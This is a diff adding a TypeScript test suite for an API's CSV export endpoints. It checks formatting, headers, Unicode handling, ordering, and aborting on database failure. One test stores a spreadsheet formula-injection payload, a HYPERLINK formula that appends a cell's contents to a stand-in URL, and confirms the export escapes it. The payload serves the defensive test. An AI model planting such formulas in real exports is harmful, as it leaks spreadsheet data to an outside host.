@@ -1,0 +1,156 @@
+import { once } from 'node:events';
+import { type IncomingMessage, type Server, createServer, get } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { parse } from 'csv-parse/sync';
+import request from 'supertest';
+import { createApplication, createContactMessage } from '../../testing/createLead';
+import { type DatabaseLink, linkTo } from '../../testing/databaseLink';
+import { type TestAdmin, signIn } from '../../testing/signIn';
+import { type TestApi, startTestApi, testDatabaseUri } from '../../testing/startTestApi';
+import { Application, type ApplicationFields } from '../applications/application.model';
+import { leadRecord } from '../../db/leadRecord';
+
+const BOM = '\ufeff';
+
+let link: DatabaseLink;
+let api: TestApi;
+let admin: TestAdmin;
+let server: Server;
+beforeAll(async () => {
+  link = await linkTo(testDatabaseUri());
+  api = await startTestApi({}, link.uri);
+  admin = await signIn();
+  server = createServer(api.server).listen(0, '127.0.0.1');
+  await once(server, 'listening');
+});
+afterAll(async () => {
+  server.closeAllConnections();
+  server.close();
+  await link.mend();
+  await api.stop();
+  await link.cut();
+});
+beforeEach(() => Application.deleteMany());
+
+const download = (path = '/api/v1/applications/export') =>
+  request(server).get(path).set('Authorization', admin.bearer);
+
+const rowsOf = (text: string) =>
+  parse(text, { bom: true, columns: true, record_delimiter: '\r\n' }) as Record<string, string>[];
+
+async function storeMany(count: number, message: string): Promise<void> {
+  const records = Array.from({ length: count }, (_, nr): ApplicationFields => {
+    const receivedAt = new Date(Date.UTC(2025, 0, 1, 0, 0, nr));
+    return {
+      ...leadRecord({ name: `Nr ${nr}`, email: 'a@b.example', message, receivedAt, months: 24 }),
+      gradYear: nr,
+    };
+  });
+  await Application.insertMany(records);
+}
+
+describe('the file', () => {
+  it('has the columns of the product, every cell in quotes, and lines that end with CRLF', async () => {
+    const receivedAt = new Date('2025-10-01T09:00:00.000Z');
+    await createApplication({
+      name: 'Ines',
+      email: 'ines@b.example',
+      message: 'Golf',
+      gradYear: 2027,
+      receivedAt,
+    });
+    await createApplication({ name: 'Ann', email: 'ann@b.example', message: 'Row', receivedAt: new Date(0) });
+
+    const { text } = await download().expect(200);
+
+    expect(text).toBe(
+      [
+        `${BOM}"name","email","grad_year","message","created_at"`,
+        '"Ines","ines@b.example","2027","Golf","2025-10-01T09:00:00.000Z"',
+        '"Ann","ann@b.example","","Row","1970-01-01T00:00:00.000Z"',
+        '',
+      ].join('\r\n'),
+    );
+  });
+
+  it('is an attachment of that day that nobody stores', async () => {
+    const { headers } = await download().expect(200);
+
+    const day = new Date().toISOString().slice(0, 10);
+    expect(headers).toMatchObject({
+      'content-type': 'text/csv; charset=utf-8',
+      'content-disposition': `attachment; filename="applications-${day}.csv"`,
+      'cache-control': 'no-store',
+      'x-content-type-options': 'nosniff',
+    });
+    expect(headers).not.toHaveProperty('etag');
+  });
+
+  it('has a head line when there is nothing to tell', async () => {
+    const { text } = await download().expect(200);
+
+    expect(text).toBe(`${BOM}"name","email","grad_year","message","created_at"\r\n`);
+  });
+
+  it('brings every name and every word back, and no formula', async () => {
+    const names = ['نور الهدى', '山田 太郎', 'Zoë 🏌️‍♀️', 'Seán "Jack" O’Hara', 'a,b;c', "O'Neill"];
+    for (const name of names) await createApplication({ name });
+    const formula = '=HYPERLINK("https://x.example?"&A1,"click")\r\nsecond line';
+    const { _id } = await createApplication({ name: '＝1+1', message: formula, flags: ['honeypot'] });
+
+    const rows = rowsOf((await download().expect(200)).text);
+
+    expect(rows.slice(1).map(({ name }) => name)).toEqual(names.toReversed());
+    expect(rows[0]).toMatchObject({ name: "'＝1+1", message: `'${formula}` });
+    expect((await Application.findById(_id).orFail()).message).toBe(formula);
+  });
+
+  it('of the contact messages has no year', async () => {
+    await createContactMessage({ name: 'Ines' });
+
+    const { text, headers } = await download('/api/contact/export').expect(200);
+
+    expect(text.split('\r\n')[0]).toBe(`${BOM}"name","email","message","created_at"`);
+    expect(rowsOf(text)).toMatchObject([{ name: 'Ines' }]);
+    expect(headers['content-disposition']).toMatch(/^attachment; filename="contact-\d{4}-\d\d-\d\d\.csv"$/);
+  });
+
+  it('of 3,000 is complete and in order, the newest first', async () => {
+    await storeMany(3000, 'x'.repeat(500));
+
+    const rows = rowsOf((await download().expect(200)).text);
+
+    expect(rows.map(({ grad_year }) => Number(grad_year))).toEqual(
+      Array.from({ length: 3000 }, (_, nr) => 2999 - nr),
+    );
+  });
+
+  it('is not written for who only asks about it', async () => {
+    const { headers, text } = await request(server)
+      .head('/api/applications/export')
+      .set('Authorization', admin.bearer)
+      .expect(200);
+
+    expect(headers['content-type']).toBe('text/csv; charset=utf-8');
+    expect(text).toBeFalsy();
+  });
+});
+
+it('is broken off when the database dies in the middle', async () => {
+  // More than any buffer on the way holds.
+  await storeMany(3000, 'x'.repeat(10_000));
+  const { port } = server.address() as AddressInfo;
+  const headers = { Authorization: admin.bearer };
+  const asked = get({ host: '127.0.0.1', port, path: '/api/applications/export', headers, agent: false });
+  const [answer] = (await once(asked, 'response')) as [IncomingMessage];
+  await once(answer, 'readable');
+
+  await link.cut();
+
+  const sizes: number[] = [];
+  answer.on('data', (chunk: Buffer) => sizes.push(chunk.length));
+  const [error] = (await once(answer, 'error')) as [Error];
+  expect(error.message).toBe('aborted');
+  expect(answer.complete).toBe(false);
+  await link.mend();
+});
